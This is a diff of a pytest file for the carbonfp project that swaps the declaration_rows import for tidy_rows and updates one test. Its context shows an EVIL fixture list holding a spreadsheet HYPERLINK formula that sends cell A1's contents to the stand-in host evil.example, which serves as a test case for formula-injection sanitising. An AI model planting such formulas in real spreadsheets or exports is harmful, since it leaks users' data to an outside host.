@@ -12,7 +12,8 @@ import pytest
 from exchange_support import EV, FORMULA_START, declare, ok, run
 from support import WriteProject
 
-from carbonfp.formats.xlsx import SHEETS, declaration_rows, read_sheets, safe_text, workbook_bytes
+from carbonfp.formats.tables import tidy_rows
+from carbonfp.formats.xlsx import SHEETS, read_sheets, safe_text, workbook_bytes
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
@@ -194,6 +195,6 @@ def test_safe_text(text: str, safe: str) -> None:
 
 def test_declaration_rows_read_the_tidy_csv() -> None:
     decl, _ = declare(EV)
-    rows = declaration_rows(decl)
+    rows = tidy_rows(decl)
     assert rows[0] == ["battery", "stage", "metric", "value", "unit"]
     assert all(isinstance(r[3], float) for r in rows[1:])
